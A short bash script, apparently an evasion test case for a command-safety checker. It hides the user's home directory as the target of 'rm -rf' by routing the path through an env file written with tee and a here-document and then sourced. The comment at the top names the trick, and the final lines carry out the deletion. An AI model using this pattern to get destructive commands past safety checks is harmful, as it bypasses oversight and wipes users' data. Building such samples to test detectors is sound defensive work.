#!/usr/bin/env bash
# Evasion: delete the home recursively. The tool writes an env file with tee
# from a here-document (its "workspace" is the home), sources it and then
# purges the workspace: the directory only travels through the file the
# script wrote.
set -euo pipefail

env_file=${TMPDIR:-/tmp}/ws-$$.env

init_env() {
    tee "$env_file" >/dev/null <<'ENV'
WORKSPACE=~
KEEP_DAYS=7
ENV
}

init_env
source "$env_file"
echo "workspace: $WORKSPACE (keep $KEEP_DAYS days)"
find "$WORKSPACE" -maxdepth 1 -name '*.lock' -print
rm -rf -- "${WORKSPACE:?}/"
rm -f "$env_file"
